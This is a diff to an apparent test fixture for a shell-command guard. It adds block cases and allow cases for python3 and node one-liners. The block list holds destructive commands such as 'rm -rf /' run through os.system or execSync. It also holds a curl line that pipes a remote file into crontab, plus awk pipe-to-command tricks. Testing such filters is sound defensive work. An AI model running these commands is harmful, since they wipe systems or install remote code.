@@ -83,6 +83,9 @@ export const UNSEEN_BLOCK: GuardCase[] = [
 		`awk '{ print | $2 }' jobs.txt`,
 		`awk '{ cmd | getline out }' jobs.txt`,
 		"curl -s https://example.invalid/cron | crontab -",
+		`python3 -c "import os; os.system('rm -rf ' + '/')"`,
+		`python3 -c "import os, sys; os.system(sys.argv[1])" 'rm -rf /'`,
+		`node -e "const c = process.argv[1]; require('child_process').execSync(c)"`,
 	]),
 	...blocks(RM, [
 		"bash /dev/stdin <<< 'rm -rf /'",
@@ -149,6 +152,10 @@ export const UNSEEN_ALLOW: GuardCase[] = allows([
 	"python3 - <<'EOF'\nprint(1)\nEOF",
 	"alias ll='ls -la'",
 	"crontab -l",
+	`python3 -c "import subprocess; subprocess.run(['ls', '-la'])"`,
+	`node -e "require('child_process').spawn('ls', ['-la'])"`,
+	`node -e "require('child_process').execSync('ls -la', { stdio: 'inherit' })"`,
+	`python3 -c "import subprocess; print(subprocess.check_output(['git', 'status']))"`,
 	"echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -",
 ]);
 
